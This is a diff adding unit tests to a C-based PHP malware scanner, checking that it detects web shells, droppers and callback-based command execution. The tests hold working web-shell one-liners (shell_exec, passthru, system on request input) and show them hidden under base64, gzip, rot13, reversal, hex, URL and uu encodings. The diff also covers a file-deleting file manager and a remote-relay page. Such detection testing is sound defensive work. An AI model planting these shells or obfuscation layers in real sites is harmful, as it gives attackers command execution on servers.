@@ -10,6 +10,8 @@
 #include <string.h>
 #include <sys/stat.h>
 #include <unistd.h>
+#define ZLIB_CONST /* next_in points to const */
+#include <zlib.h>
 
 #include "analyse.h"
 #include "phpscan.h"
@@ -594,6 +596,23 @@ test_yara_and_verdict(void)
 		for (i = 0; i < r.n && strcmp(r.f[i].cls, "tiny-uploader") != 0; i++)
 			;
 		T_CHECK(i < r.n, "up.php: no tiny-uploader finding");
+		/* a file manager driven by links; a page relaying a bare IP address's content */
+		{
+			static const char lfm[] = "<?php\nforeach (scandir($_GET['d']) as $f) echo \"<a href='?rm=$f'>$f</a>\";\n"
+						  "if (isset($_GET['rm'])) unlink($_GET['rm']);\n";
+			static const char relay[] = "<?php\n$s = 'http://203.0.113.9/d/';\n"
+						    "echo file_get_contents($s . '?h=' . $_SERVER['HTTP_HOST']);\n";
+			static const char local[] = "<?php\n$s = 'http://127.0.0.1:8080/';\necho file_get_contents($s);\n";
+
+			T_OK(analyse_buf(a, (const uint8_t *)lfm, sizeof(lfm) - 1, "l.php", &r) == 0);
+			T_CHECK(r.verdict == ANALYSE_SUSPICIOUS && strcmp(r.f[0].cls, "file-manager") == 0, "l.php: %d %s",
+				r.verdict, r.n ? r.f[0].cls : "-");
+			T_OK(analyse_buf(a, (const uint8_t *)relay, sizeof(relay) - 1, "r.php", &r) == 0);
+			T_CHECK(r.verdict == ANALYSE_SUSPICIOUS && strcmp(r.f[0].cls, "remote-relay") == 0, "r.php: %d %s",
+				r.verdict, r.n ? r.f[0].cls : "-");
+			T_OK(analyse_buf(a, (const uint8_t *)local, sizeof(local) - 1, "t.php", &r) == 0);
+			T_EQ_INT(r.verdict, ANALYSE_CLEAN);
+		}
 		/* a dropper fetching through a helper of its own */
 		{
 			static const char dr[] =
@@ -729,6 +748,192 @@ out:
 	analyse_free(a);
 }
 
+/* ---- decoded payloads ---- */
+
+static void
+b64enc(const uint8_t *p, size_t n, char *out)
+{
+	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+	size_t i, o = 0;
+
+	for (i = 0; i < n; i += 3) {
+		uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) |
+			     (i + 2 < n ? p[i + 2] : 0);
+
+		out[o++] = a[v >> 18 & 63];
+		out[o++] = a[v >> 12 & 63];
+		out[o++] = i + 1 < n ? a[v >> 6 & 63] : '=';
+		out[o++] = i + 2 < n ? a[v & 63] : '=';
+	}
+	out[o] = '\0';
+}
+
+/* wbits as zlib's deflateInit2: -15 raw (gzinflate), 15 zlib (gzuncompress), 31 gzip (gzdecode) */
+static size_t
+zpack(const char *src, size_t n, int wbits, uint8_t *out, size_t outsz)
+{
+	z_stream z;
+
+	memset(&z, 0, sizeof(z));
+	if (deflateInit2(&z, 9, Z_DEFLATED, wbits, 8, Z_DEFAULT_STRATEGY) != Z_OK)
+		return 0;
+	z.next_in = (const Bytef *)src;
+	z.avail_in = (uInt)n;
+	z.next_out = out;
+	z.avail_out = (uInt)outsz;
+	deflate(&z, Z_FINISH);
+	n = outsz - z.avail_out;
+	deflateEnd(&z);
+	return n;
+}
+
+/* uuencode of one line (up to 45 bytes), as PHP's convert_uuencode */
+static void
+uuenc(const char *p, char *out)
+{
+	size_t n = strlen(p), i, o = 0;
+
+	out[o++] = (char)(32 + n);
+	for (i = 0; i < n; i += 3) {
+		uint8_t a = (uint8_t)p[i], b = i + 1 < n ? (uint8_t)p[i + 1] : 0, c = i + 2 < n ? (uint8_t)p[i + 2] : 0;
+		uint8_t q[4] = { (uint8_t)(a >> 2), (uint8_t)((a << 4 | b >> 4) & 63), (uint8_t)((b << 2 | c >> 6) & 63),
+				 (uint8_t)(c & 63) };
+		int k;
+
+		for (k = 0; k < 4; k++)
+			out[o++] = q[k] ? (char)(32 + q[k]) : '`';
+	}
+	out[o++] = '\n';
+	out[o++] = '`';
+	out[o++] = '\n';
+	out[o] = '\0';
+}
+
+static const char shell_src[] = "<?php if (isset($_POST['c'])) { echo shell_exec($_POST['c']); } ?>";
+static const char code_src[] = "if (isset($_REQUEST['x'])) { passthru($_REQUEST['x']); }";
+
+static int
+decoded_has(enum phpscan_class c, enum phpscan_conf conf, uint32_t line)
+{
+	const struct phpscan_finding *f = find(c);
+
+	return has(c, conf, line) && f != NULL && strncmp(f->excerpt, "decoded: ", 9) == 0;
+}
+
+#define T_DECODED(src, cls, conf, line)                                                                     \
+	do {                                                                                                \
+		scan("x.php", src);                                                                         \
+		T_CHECK(decoded_has(cls, conf, line), "%.60s...: no decoded %s", src, phpscan_class_name(cls)); \
+		if (!decoded_has(cls, conf, line))                                                          \
+			dump();                                                                             \
+	} while (0)
+
+static void
+test_decoded(void)
+{
+	static char src[16384], b64[4096], tmp[8192];
+	static uint8_t z[2048];
+	static const int wbits[] = { -15, 15, 31 };
+	static const char *const fn[] = { "gzinflate", "gzuncompress", "gzdecode" };
+	size_t n, i;
+
+	/* a dropper writing a compressed shell: the payload is read as PHP */
+	for (i = 0; i < 3; i++) {
+		n = zpack(shell_src, strlen(shell_src), wbits[i], z, sizeof(z));
+		b64enc(z, n, b64);
+		snprintf(src, sizeof(src), "<?php\n$p = %s(base64_decode('%s'));\nfile_put_contents('x.php', $p);\n",
+			 fn[i], b64);
+		T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
+	}
+	/* code without an opening tag is read as code */
+	b64enc((const uint8_t *)code_src, strlen(code_src), b64);
+	snprintf(src, sizeof(src), "<?php\n$c = base64_decode(\"%s\");\nsave($c);\n", b64);
+	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
+	/* handed to eval or create_function it is malicious as it is: not decoded */
+	snprintf(src, sizeof(src), "<?php\n$f = create_function('', base64_decode(\"%s\"));\n$f();\n", b64);
+	T_HAS("x.php", src, PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 2);
+	/* the payload kept in a variable, written behind an opening tag */
+	snprintf(src, sizeof(src), "<?php\n$d = '%s';\n$p = base64_decode($d);\n"
+		 "file_put_contents('.cache.php', '<?php ' . $p);\n", b64);
+	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	/* not when the variable was given another value since */
+	snprintf(src, sizeof(src), "<?php\n$d = '%s';\n$d = load($d);\n$p = base64_decode($d);\n", b64);
+	scan("x.php", src);
+	T_OK(find(PHPSCAN_EXEC_OF_INPUT) == NULL);
+	/* rot13 and reversal around base64; literals concatenated */
+	snprintf(tmp, sizeof(tmp), "%s", b64);
+	for (i = 0; tmp[i]; i++)
+		if ((tmp[i] | 32) >= 'a' && (tmp[i] | 32) <= 'z')
+			tmp[i] = (char)((tmp[i] & 32) | (((tmp[i] | 32) - 'a' + 13) % 26 + 'A'));
+	snprintf(src, sizeof(src), "<?php\n\n$c = base64_decode(str_rot13('%.*s' . '%s'));\necho $c;\n", 10, tmp,
+		 tmp + 10);
+	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	n = strlen(b64);
+	for (i = 0; i < n; i++)
+		tmp[i] = b64[n - 1 - i];
+	tmp[n] = '\0';
+	snprintf(src, sizeof(src), "<?php $c = base64_decode(strrev('%s')); $k = $c;", tmp);
+	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	/* URL, hex ("\x" escapes too) and uu encodings */
+	T_DECODED("<?php $a = urldecode('%73ystem%28%24_GET%5B%22c%22%5D%29%3B'); $b = $a;", PHPSCAN_EXEC_OF_INPUT,
+		  PHPSCAN_HIGH, 1);
+	T_DECODED("<?php $a = hex2bin('73797374656d28245f4745545b2263225d293b'); $b = $a;", PHPSCAN_EXEC_OF_INPUT,
+		  PHPSCAN_HIGH, 1);
+	T_DECODED("<?php $a = base64_decode(\"\\x63\\x33\\x6c\\x7a\\x64\\x47\\x56\\x74\\x4b\\x43\\x52\\x66\\x52\\x30"
+		  "\\x56\\x55\\x57\\x79\\x4a\\x6a\\x49\\x6c\\x30\\x70\\x4f\\x77\\x3d\\x3d\"); $b = $a;",
+		  PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	uuenc("system($_GET['c']);", tmp);
+	snprintf(src, sizeof(src), "<?php $a = convert_uudecode('%s'); $b = $a;", tmp);
+	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
+	/* a payload inside a payload: base64 of code that decodes base64 */
+	b64enc((const uint8_t *)code_src, strlen(code_src), b64);
+	snprintf(tmp, sizeof(tmp), "$x = base64_decode('%s'); $y = $x;", b64);
+	b64enc((const uint8_t *)tmp, strlen(tmp), b64);
+	snprintf(src, sizeof(src), "<?php\n$a = base64_decode('%s');\n$b = $a;\n", b64);
+	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
+	T_OK(strncmp(find(PHPSCAN_EXEC_OF_INPUT)->excerpt, "decoded: decoded", 16) != 0);
+
+	/* decoded text, markup, data and broken streams are nothing */
+	T_CLEAN("x.php", "<?php echo base64_decode('SGVsbG8sIHdvcmxkISBUaGlzIGlzIGp1c3QgdGV4dC4=');");
+	T_CLEAN("x.php", "<?php echo base64_decode('PGI+eyRuYW1lfTwvYj4gc2FpZCBgaGVsbG9gIHRvICR1c2Vy');");
+	T_CLEAN("x.php", "<?php $img = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk');");
+	T_CLEAN("x.php", "<?php $x = gzinflate(base64_decode('bm90IGRlZmxhdGUgYXQgYWxs'));");
+	T_CLEAN("x.php", "<?php $x = gzinflate(base64_decode(\"$partial\")); $y = urldecode('%zz%');");
+	/* a bomb: 4 MiB of zeros in a few KiB; decoding stops at its bound */
+	{
+		char *big = calloc(1, 4u << 20);
+
+		if (big != NULL) {
+			memset(big, 'A', 4u << 20);
+			n = zpack(big, 4u << 20, -15, z, sizeof(z));
+			free(big);
+			b64enc(z, n, b64);
+			snprintf(src, sizeof(src), "<?php $x = gzinflate(base64_decode('%s'));", b64);
+			T_CLEAN("x.php", src);
+		}
+	}
+}
+
+static void
+test_callbacks_more(void)
+{
+	T_HAS("x.php", "<?php preg_replace_callback('/.*/', $_POST['f'], 'x');", PHPSCAN_EXEC_OF_INPUT,
+	      PHPSCAN_HIGH, 1);
+	T_HAS("x.php", "<?php\nset_error_handler($_GET['h']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
+	T_HAS("x.php", "<?php\n$c = $_REQUEST['c'];\narray_udiff_assoc(array($c), array(1), $_GET['f']);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	/* extract() of the request, then a variable function: the request names it */
+	T_HAS("x.php", "<?php\nextract($_REQUEST);\n$a($b);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_WEAK, 3);
+	/* an element the request set, called */
+	T_HAS("x.php", "<?php\n$h['f'] = $_POST['f'];\n$h['f']($_POST['a']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_HAS("x.php", "<?php\n$h = array();\n$h['f'] = $_POST['f'];\n$h['f']('x');\n", PHPSCAN_EXEC_OF_INPUT,
+	      PHPSCAN_WEAK, 4);
+	/* callbacks of the file's own */
+	T_CLEAN("x.php", "<?php preg_replace_callback('/x/', function ($m) { return $m[0]; }, $_GET['s']);"
+			 " set_error_handler('my_handler'); spl_autoload_register(array($this, 'load'));");
+	T_CLEAN("x.php", "<?php extract($_POST); $cb = 'strtoupper'; echo $cb($name);");
+}
+
 int
 main(void)
 {
@@ -736,6 +941,8 @@ main(void)
 	T_RUN(test_tokenizer);
 	T_RUN(test_taint);
 	T_RUN(test_obfuscation);
+	T_RUN(test_decoded);
+	T_RUN(test_callbacks_more);
 	T_RUN(test_placement);
 	T_RUN(test_config_files);
 	T_RUN(test_writers);
